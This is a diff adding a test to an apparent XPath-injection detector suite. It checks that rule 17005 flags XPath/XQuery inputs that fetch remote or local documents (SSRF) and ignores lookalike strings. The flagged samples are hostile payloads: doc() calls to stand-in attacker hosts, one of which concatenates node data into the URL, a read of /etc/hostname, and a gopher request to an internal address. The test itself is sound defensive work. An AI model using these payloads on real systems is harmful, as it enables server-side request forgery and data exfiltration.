@@ -24,6 +24,15 @@ describeFamily("XPath injection", {
       for (const v of fc.sample(gen, { seed: 11, numRuns: 40 })) expect(ids(h(), v), v).toContain(17005);
     }
   });
+  it("reports a document fetched from a URL (XPath 2, XQuery: an SSRF)", () => {
+    for (const v of ["doc('http://attacker.example/x.xml')", "doc(concat('http://evil.example/',name()))", "fn:doc( \"https://a.example/\" )",
+      "' or doc('http://a.example/')/x='1", "unparsed-text('file:///etc/hostname')", "fn:json-doc('gopher://10.0.0.1:70/x')"]) {
+      expect(ids(h(), v), v).toContain(17005);
+    }
+    for (const v of ["doc(db, 'users', id)", "mydoc('http://x.example/')", "see the doc (http://example.com/)", "user.doc('http://a.example/')", "doc('README.md')"]) {
+      expect(ids(h(), v), v).not.toContain(17005);
+    }
+  });
   it("leaves what only looks like XPath to other rules or none", () => {
     for (const v of ["use super::*;", "http://[::1]:8080/", "'x' | //comment", "a'] | b", "see child::para", "The path /a/b/text() is shown", "'] | /regex/",
       "managed with [Dist::Zilla](https://metacpan.org/pod/Dist::Zilla).", "PATH=/usr/bin::/bin valgrind foobar", "see /docs/Foo::Bar::Baz"]) {
